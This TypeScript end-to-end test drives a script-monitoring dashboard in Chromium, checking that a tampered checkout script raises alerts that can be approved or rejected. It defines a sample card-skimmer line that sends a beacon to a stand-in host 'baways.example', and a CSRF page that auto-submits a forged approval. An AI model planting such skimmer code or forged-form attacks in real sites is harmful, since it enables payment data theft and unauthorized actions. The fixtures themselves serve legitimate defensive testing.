// Dashboard in real Chromium: open an alert, read its diff, approve it, reject another, and see the baseline follow.

import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, it } from 'vitest';
import { APP, healthyShop, INLINE_A, INLINE_B, LIB, pageCapture, script } from '../fixtures/captures.js';
import { startDashboard, type DashboardHarness } from './harness.js';

const SKIMMER = `document.getElementById("pay").addEventListener("mouseup", function () { navigator.sendBeacon("https://baways.example/c", "x"); });`;

describe('reviewing alerts in the dashboard', () => {
  let h: DashboardHarness;
  let changedId: number;
  let addedId: number;
  beforeAll(async () => {
    h = await startDashboard();
    await h.scan(healthyShop());
    await h.store.alerts.approveAll({ by: 'alice', note: 'initial inventory reviewed', at: new Date().toISOString() });
    const tampered = script({ kind: 'external', url: APP.url, body: `${APP.body}\n${SKIMMER}` });
    const extra = script({ kind: 'external', url: 'https://cdnjs-cloud.example/jq.js', body: 'window.jq = 1;' });
    const result = await h.scan(pageCapture([tampered, LIB, INLINE_A, INLINE_B, extra]));
    changedId = result.newAlerts.find((a) => a.type === 'script.changed')!.id;
    addedId = result.newAlerts.find((a) => a.type === 'script.added')!.id;
  });
  afterAll(async () => { await h?.close(); });

  it('shows the open alerts on the overview and the alerts list', async () => {
    const page = await h.browser.newPage();
    await page.goto(h.url);
    assert.match(await page.$eval('main', (m) => m.textContent ?? ''), /checkout/);
    await page.goto(`${h.url}alerts?status=open&severity=critical`);
    const links = await page.$$eval('td.summary a', (as) => as.map((a) => a.getAttribute('href')));
    assert.ok(links.includes(`/alerts/${changedId}`));
    await page.close();
  });

  it('refuses an approval that another site makes the reviewer\'s browser post', async () => {
    const evil = http.createServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(`<form method="post" action="${h.url}alerts/${changedId}/approve"><input name="note" value="pwned"><input name="by" value="mallory"></form><script>document.forms[0].submit()</script>`);
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    const page = await h.browser.newPage();
    const response = page.waitForResponse((r) => r.url().includes(`/alerts/${changedId}/approve`));
    await page.goto(`http://127.0.0.1:${(evil.address() as AddressInfo).port}/`);
    assert.equal((await response).status(), 403);
    await page.close();
    evil.close();
    assert.equal((await h.store.alerts.get(changedId))!.status, 'open');
  });

  it('shows the added code as a diff and approves the change with a note', async () => {
    const page = await h.browser.newPage();
    page.on('dialog', (d) => { void d.accept(); });
    await page.goto(`${h.url}alerts/${changedId}`);
    const added = await page.$$eval('table.diff tr.add td.code', (tds) => tds.map((t) => t.textContent ?? ''));
    assert.ok(added.some((line) => line.includes('sendBeacon')), added.join('\n'));
    const text = await page.$eval('main', (m) => m.textContent ?? '');
    assert.match(text, /sha384-/);
    assert.match(text, /Old response headers\s*content-type/);
    await page.type('form.approve textarea[name=note]', 'vendor release 4.2');
    await Promise.all([page.waitForNavigation(), page.click('form.approve button')]);
    assert.match(await page.$eval('main', (m) => m.textContent ?? ''), /approved by\s*tester/);
    await page.close();

    const alert = (await h.store.alerts.get(changedId))!;
    assert.equal(alert.status, 'approved');
    assert.equal(alert.note, 'vendor release 4.2');
    const row = (await h.store.inventory.scripts({})).find((r) => r.url === APP.url)!;
    assert.equal(row.state, 'approved');
    assert.equal(row.versionNote, 'vendor release 4.2');
    assert.notEqual(row.justification, 'vendor release 4.2', 'a new version keeps the script\'s own justification');
    assert.equal(row.sha256, alert.newValue);
  });

  it('rejects an alert, which stays flagged and out of the baseline', async () => {
    const page = await h.browser.newPage();
    page.on('dialog', (d) => { void d.accept(); });
    await page.goto(`${h.url}alerts/${addedId}`);
    await page.type('form.reject textarea[name=note]', 'unknown host, incident INC-9');
    await Promise.all([page.waitForNavigation(), page.click('form.reject button')]);
    await page.goto(`${h.url}alerts?status=rejected`);
    const rejected = await page.$$eval('td.summary a', (as) => as.map((a) => a.getAttribute('href')));
    assert.deepEqual(rejected, [`/alerts/${addedId}`]);
    await page.goto(`${h.url}inventory`);
    const inventory = await page.$eval('main', (m) => m.textContent ?? '');
    assert.match(inventory, /cdnjs-cloud\.example\/jq\.js\s*[^]*unapproved/);
    await page.close();
    const again = await h.scan(pageCapture([script({ kind: 'external', url: APP.url, body: `${APP.body}\n${SKIMMER}` }), LIB, INLINE_A, INLINE_B, script({ kind: 'external', url: 'https://cdnjs-cloud.example/jq.js', body: 'window.jq = 1;' })]));
    assert.deepEqual(again.newAlerts, [], 'the approved change is quiet; the rejected one is not raised twice');
    assert.equal((await h.store.alerts.get(addedId))!.status, 'rejected');
  });
});
